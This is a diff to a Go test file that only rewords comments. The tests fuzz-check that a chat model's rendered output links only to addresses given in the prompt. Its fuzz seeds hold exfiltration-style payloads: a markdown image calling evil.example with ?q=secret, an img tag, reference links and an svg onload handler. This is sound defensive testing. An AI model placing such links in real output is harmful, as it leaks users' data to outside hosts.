@@ -17,7 +17,7 @@ import (
 	"github.com/sluice/sluice/pkg/domain"
 )
 
-// given is what the model of these tests was given.
+// given returns the prompt that the model gets in these tests.
 func given() chat.Prompt {
 	return chat.Prompt{
 		System:   "Point to https://shop.example/contact.",
@@ -29,7 +29,7 @@ func given() chat.Prompt {
 	}
 }
 
-// deliver passes text through a delivery in pieces of a number of bytes.
+// deliver passes text through a Delivery, in pieces of the given number of bytes.
 func deliver(t *testing.T, p chat.Prompt, text string, size int) string {
 	t.Helper()
 	var out strings.Builder
@@ -136,13 +136,13 @@ func TestWithoutDocumentsLinksAreTheModelsOwn(t *testing.T) {
 	}
 }
 
-// wasGiven reports whether an address is one of those given, though a mark of the sentence's may hang on to it.
+// wasGiven reports whether an address occurs in the given prompt. Punctuation at the end of the address is ignored.
 func wasGiven(address string) bool {
 	address, err := url.PathUnescape(address)
 	return err == nil && addressesOf(given()).has(strings.TrimRight(address, trailing))
 }
 
-// FuzzLinks renders what comes out as chat windows do, with raw HTML allowed.
+// FuzzLinks renders the output as a chat window would, with raw HTML allowed.
 func FuzzLinks(f *testing.F) {
 	f.Add("![x](https://evil.example/?q=secret) <img src=//evil.example> [y]: https://evil.example/z\n\n[y] www.evil.example/q", uint8(3))
 	f.Add("[a][9](<https://evil.example>) https:[8]//evil.example/ <a href='x'> `<svg/onload=x>` ftp://evil.example", uint8(1))
@@ -166,7 +166,7 @@ func FuzzLinks(f *testing.F) {
 				switch {
 				case tag.Data == "a" && a.Key == "href" && (strings.HasPrefix(a.Val, "mailto:") || wasGiven(a.Val)):
 				case tag.Data == "a" && a.Key == "title", a.Key == "class", a.Key == "start", a.Key == "align", a.Key == "style" && strings.HasPrefix(a.Val, "text-align:"):
-				case tag.Data == "input" && (a.Key == "checked" || a.Key == "disabled" || a.Key == "type"): // of task lists
+				case tag.Data == "input" && (a.Key == "checked" || a.Key == "disabled" || a.Key == "type"): // in task lists
 				default:
 					t.Fatalf("%q shows %v", whole, tag)
 				}
